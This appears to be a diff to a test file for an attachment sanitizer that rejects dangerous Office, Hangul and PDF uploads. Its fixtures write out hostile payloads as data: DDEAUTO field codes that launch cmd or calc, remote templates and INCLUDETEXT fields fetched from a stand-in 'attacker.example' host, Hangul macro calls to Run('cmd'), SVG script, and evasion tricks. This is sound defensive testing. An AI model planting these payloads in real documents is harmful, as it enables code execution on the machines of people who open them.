@@ -12,7 +12,14 @@ import { officeDocumentProblem } from '../../server/attachments/office-document.
 import { contentMatchesName, sanitizeAttachment } from '../../server/attachments/attachments.ts';
 import { hasClamd, startClamAV } from './fixture/clamd.ts';
 import { pdfOf } from './fixture/inquiry.ts';
-import { compoundFile, docxWith, OFFICE, relationshipsTo, xlsxWith } from './fixture/zip.ts';
+import {
+  compoundFile,
+  docxWith,
+  hwpxWith,
+  OFFICE,
+  relationshipsTo,
+  xlsxWith,
+} from './fixture/zip.ts';
 
 /** Who sends the files of most tests. */
 const NETWORK = 'ipv4:c00002';
@@ -139,6 +146,11 @@ const packedPdf = (objects: string, dictionary = '') =>
     zlib.deflateSync(objects),
     Buffer.from('\nendstream\nendobj\n%%EOF\n'),
   ]);
+/** What Hangul writes into a document without macros. */
+const NO_MACROS = {
+  header: 'var Documents = XHwpDocuments;\r\nvar Document = Documents.Active_XHwpDocument;\r\n',
+  source: 'function OnDocument_New()\r\n{\r\n\t//todo : \r\n}\r\n',
+};
 const OUTSIDE = 'https://attacker.example/template.dotm';
 
 test.each<[string, string, Buffer]>([
@@ -163,6 +175,42 @@ test.each<[string, string, Buffer]>([
     'a.docx',
     docxWith({ 'word/_rels/document.xml.rels': relationshipsTo('hyperlink', 'file://host/a') }),
   ],
+  [
+    'a template from outside whose address ends like an element',
+    'a.docx',
+    docxWith({
+      'word/_rels/settings.xml.rels': relationshipsTo('attachedTemplate', `${OUTSIDE}?>`),
+    }),
+  ],
+  [
+    'a template from outside under another prefix',
+    'a.docx',
+    docxWith({
+      'word/_rels/settings.xml.rels': relationshipsTo('attachedTemplate', OUTSIDE).replaceAll(
+        /(<\/?)Rel/g,
+        '$1r-1:Rel',
+      ),
+    }),
+  ],
+  [
+    'a macro of Hangul',
+    'a.hwpx',
+    hwpxWith({ 'Scripts/sourceScripts': NO_MACROS.source.replace('//todo', 'Run("cmd") //todo') }),
+  ],
+  [
+    'a macro behind what looks like a comment',
+    'a.hwpx',
+    hwpxWith({ 'Scripts/sourceScripts.js': NO_MACROS.source.replace('todo', 'todo\u2028Run()') }),
+  ],
+  [
+    'a script in a drawing',
+    'a.docx',
+    docxWith({ 'word/media/a.svg': '<svg><svg:script>alert(1)</svg:script></svg>' }),
+  ],
+  ['DDE in an attribute', 'a.docx', docxWith({}, `<w:fldSimple w:instr = 'DDEAUTO cmd'/>`)],
+  ['DDE in a CDATA section', 'a.docx', docxWith({}, fieldCode('<![CDATA[DDEAUTO cmd]]>'))],
+  ['DDE around a comment', 'a.docx', docxWith({}, fieldCode('DDE<!-- -->AUTO cmd'))],
+  ['a field from outside', 'a.docx', docxWith({}, fieldCode(`INCLUDETEXT "${OUTSIDE}"`))],
   ['DDE', 'a.docx', docxWith({}, fieldCode('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))],
   ['DDE in pieces', 'a.docx', docxWith({}, fieldCode('DD') + fieldCode('EAUTO cmd'))],
   ['DDE in references', 'a.docx', docxWith({}, fieldCode('&#68;&#x44;E cmd "x"'))],
@@ -190,6 +238,8 @@ test.each<[string, string, Buffer]>([
 test.each<[string, string, Buffer]>([
   ['text before the archive', 'a.docx', Buffer.concat([Buffer.from('MZ'), OFFICE.docx])],
   ['text behind the archive', 'a.docx', Buffer.concat([OFFICE.docx, Buffer.from('<html>')])],
+  ['entities', 'a.docx', docxWith({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "DDE">]><a/>' })],
+  ['parts that are not XML', 'a.docx', docxWith({ 'word/a.xml': '<a><b></a>' })],
   ['parts in another encoding', 'a.docx', docxWith({}, '\ufffd\0<')],
   ['a predictor over its objects', 'a.pdf', packedPdf('<< >>', '/DecodeParms << /Predictor 12 >>')],
   [
@@ -208,6 +258,12 @@ test('a document that unpacks beyond any memory is refused', () => {
   expect(officeDocumentProblem(bomb)).toBe('attachment.invalid');
 });
 
+test('a document that is written to be slow takes no longer than its length', () => {
+  // In a time that grows with the square of the length, this takes more than an hour.
+  const text = `<f>${'|'.repeat(2_000_000)}</f>${'<w:fldSimple w:instr="IMPORT "/>'.repeat(50_000)}`;
+  expect(officeDocumentProblem(docxWith({}, text))).toBeUndefined();
+});
+
 test.each<[string, string, Buffer]>([
   [
     'links to the web',
@@ -217,7 +273,36 @@ test.each<[string, string, Buffer]>([
     }),
   ],
   ['a sheet behind a chart', 'a.docx', docxWith({ 'word/charts/chart1.xml': '<c:chart/>' })],
-  ['the words of an attack as text', 'a.docx', docxWith({}, '<w:t>DDE and JavaScript</w:t>')],
+  [
+    'the words of an attack as text',
+    'a.docx',
+    docxWith({}, '<w:t>DDE, javascript: and INCLUDETEXT https:</w:t>'),
+  ],
+  [
+    'an equation',
+    'a.hwpx',
+    hwpxWith({
+      'Contents/section0.xml': '<hp:equation><hp:script>a over b</hp:script></hp:equation>',
+    }),
+  ],
+  [
+    'the place of macros without any',
+    'a.hwpx',
+    hwpxWith({
+      'Scripts/headerScripts': Buffer.from(NO_MACROS.header, 'utf16le'),
+      'Scripts/sourceScripts.js': NO_MACROS.source,
+    }),
+  ],
+  [
+    'drawings as Excel writes them',
+    'a.xlsx',
+    xlsxWith({ 'xl/drawings/vmlDrawing1.vml': '<xml><v:textbox>a<br>b</v:textbox></xml>' }),
+  ],
+  [
+    'a drawing of one long attribute',
+    'a.docx',
+    docxWith({ 'word/media/a.svg': `<svg><path d="${'M0 0'.repeat(50_000)}"/></svg>` }),
+  ],
   ['objects in a compressed stream', 'a.pdf', packedPdf('<< /Type /Page >>')],
   [
     'words in a compressed page',
